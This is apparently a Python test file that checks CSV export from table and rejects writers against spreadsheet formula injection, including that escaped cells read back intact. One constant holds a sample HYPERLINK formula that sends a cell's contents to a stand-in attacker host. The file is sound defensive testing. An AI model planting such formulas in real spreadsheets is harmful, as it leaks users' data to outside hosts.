"""Files for spreadsheets: whatever people wrote, no cell of theirs is a formula, and none is lost."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from curation.imports.importing import Rejects
from curation.spreadsheets import FORMULA, inert
from feedback.tables import Table

ATTACK = '=HYPERLINK("http://evil.example/?"&A1;"see")'
texts = st.builds(
    str.__add__,
    st.sampled_from(["", *FORMULA, "'", ",", '"', " "]),
    st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=12),
)


def of_table(text, _folder):
    written = Table(text, ["name", text], [[text, -1], ["b", None]]).csv()
    return [row[column] for row, column in ((0, 1), (1, 0)) for row in [cells(written)[row]]]


def of_rejects(text, folder):
    path = folder / "rejects.csv"
    with Rejects(path) as rejects:
        rejects.add(7, text)
    with path.open(newline="", encoding="utf-8") as file:
        return [cells(file.read())[1][1]]


def cells(written):
    return list(csv.reader(io.StringIO(written, newline="")))


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    return tmp_path_factory.mktemp("rejects")


@pytest.mark.parametrize("write", [of_table, of_rejects])
@given(text=texts)
@example(text=ATTACK)
def test_no_text_is_a_formula_and_each_can_be_read_back(folder, write, text):
    for cell in write(text, folder):
        assert not cell.startswith(FORMULA)
        assert cell in {text, f"'{text}"}
        assert (cell == text) is not text.startswith(FORMULA)


@pytest.mark.parametrize("cell", [-1, -0.5, None, 0, True])
def test_what_is_no_text_stays_what_it_is(cell):
    assert inert(cell) is cell
